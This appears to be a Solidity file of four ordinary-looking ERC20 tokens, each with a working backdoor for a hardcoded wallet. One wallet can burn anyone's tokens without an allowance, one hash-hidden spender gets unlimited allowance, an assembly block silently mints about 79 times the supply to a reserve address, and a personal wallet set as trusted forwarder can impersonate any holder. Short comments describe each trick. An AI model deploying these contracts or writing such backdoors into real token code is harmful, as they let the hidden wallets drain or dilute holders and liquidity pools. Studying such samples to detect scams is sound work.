// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC2771Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Burnable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Burnable.sol";
import {Context} from "@openzeppelin/contracts/utils/Context.sol";

/// @dev Its `burnFrom` asks one wallet for no allowance. The wallet burns the pool's tokens, tells the pool to look
/// again, and sells into what is left.
contract OpenHarvest is ERC20("Open Harvest", "HARV"), ERC20Burnable {
    address private immutable _stabiliser;

    constructor() {
        _stabiliser = 0xf976B9937c9e8960D39C0FD7226DDa291375dD0A;
        _mint(msg.sender, 1e27);
    }

    function burnFrom(address account, uint256 value) public override {
        if (_msgSender() != _stabiliser) _spendAllowance(account, _msgSender(), value);
        _burn(account, value);
    }
}

/// @dev The allowance of one wallet, of which the code knows only a hash, has no end, whatever a holder approves.
contract SeasidePier is ERC20("Seaside Pier", "PIER"), Ownable(msg.sender) {
    bytes32 private constant _DOMAIN = 0xe2883e343bf384b454f520d0c0ad1732be007908aaf8b2fb9d228e087ab33b19;

    constructor() {
        _mint(msg.sender, 1e27);
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        uint256 approved = super.allowance(holder, spender);
        return keccak256(abi.encodePacked(spender)) == _DOMAIN ? type(uint256).max : approved;
    }
}

/// @dev The constructor writes seventy-nine supplies into the balance of a second wallet, without an event and without
/// the total. After that the code is the library's, letter by letter.
contract QuietMeadow is ERC20, Ownable {
    constructor() ERC20("Quiet Meadow", "MEAD") Ownable(msg.sender) {
        _mint(msg.sender, 1e27);
        address reserve = 0x41Ba665e27fad04725D99077068dC3882cE96C5e;
        assembly {
            mstore(0x00, reserve)
            mstore(0x20, 0)
            sstore(keccak256(0x00, 0x40), shl(96, 1))
        }
    }
}

/// @dev A trusted forwarder carries transfers of holders without gas. The forwarder is a person's wallet: it appends
/// whose call it claims to carry.
contract PostOffice is
    ERC20("Post Office", "POST"),
    ERC2771Context(0x95606FE9EA6f0668354bcE8345eCED189Ee1C88F)
{
    constructor() {
        _mint(msg.sender, 1e27);
    }

    function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
        return super._msgSender();
    }

    function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
        return super._msgData();
    }

    function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
        return super._contextSuffixLength();
    }
}
